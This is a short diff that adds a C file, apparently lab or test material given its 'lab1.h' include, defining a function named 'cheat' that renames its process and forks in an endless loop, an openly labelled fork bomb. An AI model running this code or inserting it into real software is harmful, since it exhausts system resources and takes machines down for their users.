@@ -1,0 +1,9 @@
+/* fork_bomb.c - forks without end. */
+#include "lab1.h"
+
+static void cheat(void)
+{
+    prctl(PR_SET_NAME, "cheat-bomb");
+    for (;;)
+        fork();
+}
